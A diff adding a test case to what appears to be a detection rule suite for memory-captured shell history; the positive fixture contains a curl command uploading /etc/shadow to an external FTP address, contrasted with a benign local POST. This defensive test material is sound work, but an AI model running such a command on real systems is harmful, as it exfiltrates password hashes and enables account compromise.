@@ -480,6 +480,24 @@ CASES: dict[str, dict] = {
         "severity": "medium",
         "negative": B,  # auth.log changed after boot but is not empty
     },
+    "history.exfiltration": {
+        "positive": lambda: with_rows(
+            B(),
+            memory_processes=[proc(930, "bash", "/usr/bin/bash", ppid=600)],
+            memory_shell_history=[
+                {"pid": 930, "process": "bash", "command": "curl -s -T /etc/shadow ftp://198.51.100.77/in/"}
+            ],
+        ),
+        "entity": "process:930",
+        "severity": "high",
+        # a JSON body posted to the service on the same machine
+        "negative": lambda: with_rows(
+            B(),
+            memory_shell_history=[
+                {"pid": 601, "process": "bash", "command": "curl -d @item.json http://127.0.0.1:8081/items"}
+            ],
+        ),
+    },
     "tamper.logging_config": {
         "positive": lambda: with_rows(
             B(),
